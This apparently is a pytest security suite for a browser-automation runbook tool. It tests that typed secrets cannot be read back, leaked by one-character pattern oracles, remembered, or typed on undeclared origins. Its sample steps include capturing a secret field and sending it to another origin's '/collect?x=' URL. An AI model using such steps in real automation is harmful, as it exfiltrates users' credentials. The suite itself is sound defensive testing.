"""Attack class: a secret's way into data. After a secret is typed, a careless (or hostile) runbook
reads it back — the field's value, a page that echoes it, a regex or an `expect` that tests it a
character at a time — to put it in variables, reports, history and `remember:` facts, in a URL,
or types it on an origin it is not declared for. Each is refused (SECRET_REFUSED, ORIGIN_REFUSED)
and leaves no spelling of the secret anywhere."""

from __future__ import annotations

import json
import sqlite3
from typing import Any

import pytest
from canaries import CANARIES, NFC, spellings_table
from security_helpers import Project, SecRun, assert_no_secret, held
from support.artifacts import found_in

from bot import MASK

pytestmark = pytest.mark.browser

TYPED = """\
- goto: "{{ client.site_url }}/echo.html"
- fill: {label: Secret field, value: "{{ secret('pw') }}"}
- expect: {text: You typed}
"""
READS = {
    "the field's value": "- capture: {css: '#pw', get: value, as: got}",
    "an attribute": "- capture: {css: '#pw', get: 'attribute:value', as: got}",
    "a page that echoes it": "- capture: {css: '#typed', as: got}",
    "a regex keeping one character": "- capture: {css: '#mirror', regex: 'Mirror: (.)', as: got}",
    "expect has_text, one character": "- expect: {css: '#mirror', has_text: '/^Mirror: C/'}",
    "expect has_value, one character": "- expect: {css: '#pw', has_value: '/^C/'}",
    "expect that it is visible": "- expect: {css: '#pw', visible: true}",
    # a locator's pattern as an oracle: which alternative matched, a miss, a count
    "the alternative a pattern picks": (
        "- wait_for: {any: {yes: {text: '/^Mirror: C/'}, no: {text: Careless page}}, as: got}"
    ),
    "a miss of a pattern that excludes it": (
        "- wait_for: {any: {no: {text: '/You typed: [^C]/'}, yes: {text: Careless page}}, as: got}"
    ),
    "a name pattern of an element": "- choose: {any: {got: {name: '/Mirror: Cn/'}}, as: got}",
    "expect a count of a pattern": "- expect: {text: '/^Mirror: C/', count: 1}",
    "expect that a pattern is absent": "- expect: {text: '/^Mirror: X/', hidden: true}",
}
REMEMBER = """\
remember: [got]
summary:
  - message: "got {{ vars.got }}"
    when: "vars.got is defined"
"""


def facts(run: SecRun) -> list[tuple[str, str | None]]:
    history = next(p for p in run.history if p.name.endswith(".sqlite"))
    with sqlite3.connect(history) as db:
        return db.execute("SELECT name, value FROM facts").fetchall()


@pytest.mark.parametrize("read", list(READS))
def test_a_typed_secret_cannot_be_read_back_into_data(
    project: Project, browser: Any, read: str
) -> None:
    step = READS[read]
    then = (
        '- goto: "{{ client.other_url }}/collect?x={{ vars.got }}"\n' if "as: got" in step else ""
    )
    head = REMEMBER if "as: got" in step else ""
    run = project.run(f"{TYPED}{step}\n{then}", browser, head=head)
    assert (run.verdict, run.kind) == ("failed", "secret_refused"), run
    assert "got" not in run.outcome.result.vars
    assert run.outcome.summary == []  # nothing to say, and no secret said
    assert facts(run) == []  # a failed run remembers nothing, and `got` was never set
    assert project.other.paths() == []  # the run stopped before the URL step
    assert held(run.raw_trace, {"pw": NFC}) == ["pw"]  # control: the secret was typed
    assert_no_secret(run)


def test_a_secret_cut_short_by_the_page_is_still_the_secret(project: Project, browser: Any) -> None:
    """A `maxlength` keeps ten characters of the secret, and the page shows them: reading them
    back is refused, and no artifact holds them."""
    run = project.run(
        """\
        - goto: "{{ client.site_url }}/truncate.html"
        - fill: {label: Token, value: "{{ secret('pw') }}"}
        - capture: {css: '#cut', as: got}
        """,
        browser,
        head=REMEMBER,
    )
    assert (run.verdict, run.kind) == ("failed", "secret_refused"), run
    assert "got" not in run.outcome.result.vars
    assert held(run.raw_trace, {"pw": NFC[:10]}) == ["pw"]  # control: the page showed them
    assert_no_secret(run)


def test_a_secret_is_not_typed_on_an_origin_it_is_not_declared_for(
    project: Project, browser: Any
) -> None:
    run = project.run(
        """\
        - goto: "{{ client.other_url }}/echo.html"
        - fill: {label: Secret field, value: "{{ secret('pw') }}"}
        """,
        browser,
    )
    assert (run.verdict, run.kind) == ("failed", "origin_refused"), run
    assert project.other.url in run.message
    assert "only allowed on" in run.message
    assert "/echo.html" in project.other.paths()  # control: the page was there to type into
    assert held(run.raw_trace, {"pw": NFC}) == []
    assert_no_secret(run)


def test_a_param_or_a_literal_holding_a_secret_stops_before_the_browser(
    project: Project, browser: Any
) -> None:
    """`--param` and the runbook's own text are checked against the secrets' values."""
    from bot import InputError

    with pytest.raises(InputError) as raised:
        project.run(
            '- goto: "{{ client.other_url }}/collect?note={{ params.note }}"\n',
            browser,
            head="params: {note: {type: string}}\n",
            params={"note": f"see {NFC}"},
        )
    assert "--param note holds the value of the client's secret 'pw'" in raised.value.message
    assert project.other.paths() == project.site.paths() == []  # no browser went anywhere
    with pytest.raises(InputError) as literal:
        project.run(f"- goto: {json.dumps('{{ client.other_url }}/collect?x=' + NFC)}\n", browser)
    assert "the value of the client's secret 'pw' is written in this runbook" in (
        literal.value.message
    )
    with pytest.raises(InputError) as near:  # all but its last character: still the secret
        project.run(f"- click: |-\n    {NFC[:-1]}\n", browser)  # a block scalar: as written
    assert "the value of the client's secret 'pw' is written in this runbook" in near.value.message
    with pytest.raises(InputError) as broken:  # a YAML error on the very line
        project.run(f"- goto: {json.dumps(NFC)}\n  - [\n", browser)
    assert "YAML syntax error" in broken.value.message
    assert project.other.paths() == project.site.paths() == []
    for error in (raised.value, literal.value, near.value, broken.value):
        assert MASK in error.message or "--param" in error.message
        hits = found_in([("message", error.message.encode())], spellings_table(CANARIES))
        assert hits == []


@pytest.mark.parametrize(
    "step",
    [
        "- wait_for: {any: {yes: {text: '/^Mirror: C/'}, no: {text: Careless component}}, as: got}",
        "- expect: {text: '/^Mirror: C/', count: 1}",
    ],
    ids=["the alternative a pattern picks", "expect a count of a pattern"],
)
def test_a_locator_cannot_test_a_secret_shown_inside_a_shadow_root(
    project: Project, browser: Any, step: str
) -> None:
    """A web component shows what was typed inside its shadow root, where Playwright's text
    locators look too: a pattern tested against it is an oracle all the same."""
    run = project.run(
        '- goto: "{{ client.site_url }}/shadow.html"\n'
        "- fill: {label: Secret field, value: \"{{ secret('pw') }}\"}\n"
        f"{step}\n",
        browser,
    )
    assert (run.verdict, run.kind) == ("failed", "secret_refused"), run
    assert "got" not in run.outcome.result.vars
    assert held(run.raw_trace, {"pw": NFC}) == ["pw"]  # control: the secret was typed
    assert_no_secret(run)
